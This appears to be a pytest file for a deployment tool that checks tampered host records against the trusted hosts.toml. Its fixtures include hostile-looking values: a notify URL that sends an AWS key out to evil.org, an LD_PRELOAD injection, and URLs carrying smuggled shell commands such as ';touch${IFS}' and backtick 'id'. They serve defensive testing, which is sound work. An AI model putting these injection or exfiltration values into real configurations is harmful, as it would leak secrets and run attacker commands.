"""What of a record from hosts is shown before it is used, and how many hosts must have it."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest
from support.builders import make_inventory

from tfdeploy import run as runs
from tfdeploy.commands.records.claims import Vote, differences, known_hosts_only, with_own_keys
from tfdeploy.config.models import JobTraining
from tfdeploy.planning import placing, trials

HOSTS = """
[training.env]
LR = "0.1"
[notify]
on_end = ["mail", "me"]
[data."mnist"]
path = "mnist"
[trials.params]
lr = [0.1, 0.01]
[hosts.a]
address = "10.0.0.1"
workers = 1
[hosts.b]
address = "10.0.0.2"
"""


def run_of(inventory, **more):
    plan = placing.make_plan_from_addresses(inventory)
    return runs.Run("20260101-120000-abcd", "f00d", "a9e", inventory, plan, **more)


@pytest.fixture
def current():
    return make_inventory(HOSTS)


def keys(claimed, current, own=None):
    return [difference.key for difference in differences(claimed, current, own)]


def with_training(inventory, **changes):
    return inventory.copy_with({"training": inventory.training.copy_with(changes)})


def with_host(inventory, index, **changes):
    hosts = [*inventory.hosts]
    hosts[index] = hosts[index].copy_with(changes)
    return inventory.copy_with({"hosts": tuple(hosts)})


TEXTS = {
    "training.command": {"command": ("python", "evil.py")},
    "training.secrets": {"secrets": ("AWS_KEY",)},
    "training.env.LR": {"env": {"LR": "1"}},
    "training.env.LD_PRELOAD": {"env": {"LR": "0.1", "LD_PRELOAD": ""}},
    "training.role_files.x.py": {"role_files": {"x.py": "import os"}},
    "training.imports": {"imports": ("tensorflow", "evil")},
    "training.checkpoint_dir": {"checkpoint_dir": "/home/me"},
    "training.outputs": {"outputs": ("*", "/home/me")},
}


@pytest.mark.parametrize("key", TEXTS)
def test_a_text_that_hosts_toml_does_not_have_is_a_difference(current, key):
    assert keys(run_of(with_training(current, **TEXTS[key])), current) == [key]


def test_tables_hosts_and_words_are_compared_too(current):
    changed = current.copy_with({"network": "open", "project": "q"})
    notify = current.notify.copy_with({"on_failure": ("https://evil.org/{AWS_KEY}",)})
    data = {**current.data, "x": current.data["mnist"].copy_with({"path": "/etc"})}
    changed = with_host(changed.copy_with({"notify": notify, "data": data}), 1, env={"A": "b"})
    found = keys(run_of(changed, words=("--evil",)), current)
    assert found == [
        "project", "network", "data.x.path", "data.x.jobs", "data.x.compare",
        "notify.on_failure", "hosts.b.env.A", "words",
    ]  # fmt: skip


def test_numbers_truth_values_and_placement_may_differ(current):
    changed = with_training(current, replicas=1, save_on_stop=True, ends_with="chief")
    changed = with_training(changed, imports=("torch",), outputs_limit_mb=9)
    changed = with_host(changed, 0, workers=0, spare=True, gpus=range(2))
    changed = with_host(changed, 1, workers=3, ports=(7, 8, 9, 10))
    assert keys(run_of(changed), current) == []


def test_texts_of_the_controllers_own_record_are_known(current):
    command = (*current.training.command, "--lr")
    own = run_of(with_training(current, command=command), words=("--lr",))
    assert keys(own, current) == ["training.command", "words"]
    assert keys(own, current, own) == []
    assert keys(replace(own, release="bad"), current, own) == ["release"]
    assert keys(replace(own, agent="bad"), current, own) == ["agent"]


KEPT = (
    HOSTS
    + """
[env]
requirements = "r.txt"
"""
)
LEFT_OUT = {
    "training.role_args": {"role_args": ("--dry-run",)},
    "training.role_env.A": {"role_env": {"A": "b"}},
    "training.worker.command": {"worker": JobTraining(command=("python", "worker.py"))},
    "training.secrets": {"secrets": ("KEY",)},
    "training.imports": {"imports": ("tensorflow", "mine")},
    "training.ends_with": {"ends_with": "all"},
}


@pytest.mark.parametrize("key", LEFT_OUT)
def test_a_text_that_a_record_leaves_out_is_a_difference(current, key):
    more = with_training(current, **LEFT_OUT[key])
    assert keys(run_of(current), more) == [key]
    assert keys(run_of(current), current, run_of(more)) == [key]
    # What hosts.toml has by now was not in the run that the controller knows.
    assert keys(run_of(current), more, run_of(current)) == []


def test_left_out_tables_words_and_data_are_differences(current):
    more = make_inventory(KEPT)
    less = run_of(with_training(current, env={}).copy_with({"notify": type(current.notify)()}))
    expected = ["training.env.LR", "notify.on_end"]
    assert keys(less, current) == expected
    found = keys(less, more)
    assert {*found} == {*expected, "env.requirements"}
    own = run_of(more, words=("--lr",), data={"mnist": "f00d"})
    assert keys(less, current, own) == [*found, "words", "data.mnist.release"]
    shown = [*map(str, differences(less, current, own))]
    assert 'notify.on_end = nothing; the controller\'s own record has ["mail", "me"]' in shown


def test_what_a_start_writes_in_place_of_texts_is_no_difference(current):
    written = with_training(with_host(current, 0, ports="auto"), workers=3, imports=("x",))
    started = with_training(with_host(written, 0, ports=(7, 8)), workers=None, imports=("x",))
    assert keys(run_of(started.copy_with({"hosts": started.hosts[:1]})), written) == []
    of_scripts = with_training(current, imports=("torch",))
    assert keys(run_of(of_scripts), current) == []


def test_a_host_that_the_own_record_does_not_use_is_a_difference(current):
    a, b = current.hosts
    alone = run_of(current.copy_with({"hosts": (a,)}))
    spare = run_of(current.copy_with({"hosts": (a, b.copy_with({"spare": True}))}))
    both = run_of(with_host(current, 1, workers=1))
    assert keys(both, current) == keys(spare, current) == []
    for own in (alone, spare):
        [shown] = map(str, differences(both, current, own))
        assert shown == (
            "hosts.b = a host that runs tasks; the controller's own record has nothing"
        )
    assert keys(spare, current, alone) == ["hosts.b"]
    assert keys(alone, current, both) == []


def test_trials_are_those_that_hosts_toml_would_have(current):
    assert keys(run_of(trials.with_trials(current)), current) == []
    points = ({"lr": "0.1; evil"}, {"lr": "0.01"})
    changed = trials.with_trials(current.copy_with({"trials": current.trials.copy_with({
        "points": points})}))  # fmt: skip
    assert keys(run_of(changed), current) == ["trials.params.lr"]


def test_a_difference_shows_both_values_and_no_control_character(current):
    changed = with_training(current, command=("sh", "\x1b[2K\u202e"))
    [shown] = map(str, differences(run_of(changed), current, None))
    assert shown.startswith('training.command = ["sh", "\\u001b[2K\\u202e"]; hosts.toml has ["')
    notify = current.notify.copy_with({"on_end": ("https://hooks.example.org/token",)})
    [shown] = map(str, differences(run_of(current.copy_with({"notify": notify})), current, None))
    assert "token" not in shown


HIDING = ["echo https://x/;touch${IFS}/tmp/P", "https://x/;touch${IFS}P", "https://x/`id`"]


@pytest.mark.parametrize("word", HIDING)
def test_a_url_hides_no_command(current, word):
    for words in ((word,), ("bash", "-c", word), ("perl", "-e", "https://x/exec+q.id.")):
        notify = current.notify.copy_with({"on_end": words})
        [shown] = map(
            str, differences(run_of(current.copy_with({"notify": notify})), current, None)
        )
        assert json.dumps(words[-1]) in shown


def test_hosts_toml_decides_how_a_host_is_reached(current):
    forged = {"hostname": "evil", "user": "root", "python": "evil", "address": "1.2.3.4"}
    assert with_own_keys(with_host(current, 0, **forged), current) == current
    listed = replace(run_of(current), left_out=("b", "x\n"), auto_ports=("c",))
    kept = known_hosts_only(listed, current)
    assert (kept.left_out, kept.auto_ports) == (("b",), ())


@pytest.mark.parametrize(
    ("own", "holders", "enough"),
    [("a", "a", True), ("ab", "a", False), ("ab", "ab", True), ("abc", "ab", True),
     ("abcd", "ab", False), ("ab", "xyz", False)],
)  # fmt: skip
def test_more_than_half_of_the_hosts_in_the_own_record_must_have_a_newer_one(own, holders, enough):
    assert (Vote.of_known(own, holders).problem == "") is enough


@pytest.mark.parametrize(
    ("named", "holders", "answered", "others", "enough", "lost"),
    [
        ("ab", "ab", "ab", "", True, False),
        ("abc", "ab", "ab", "", True, False),  # c gives no answer
        ("ab", "a", "a", "", False, False),
        ("abc", "ab", "abc", "", False, False),  # c says otherwise
        ("ab", "a", "ab", "b", False, True),
        ("a", "a", "abc", "bc", False, True),  # b and c have another record of this run
        ("ab", "ab", "abc", "c", True, False),  # c was left out
    ],
)
def test_all_hosts_that_answer_must_agree_if_the_controller_has_no_record(
    named, holders, answered, others, enough, lost
):
    vote = Vote.of_run(named, holders, answered, others)
    assert (vote.problem == "", vote.is_lost) == (enough, lost)
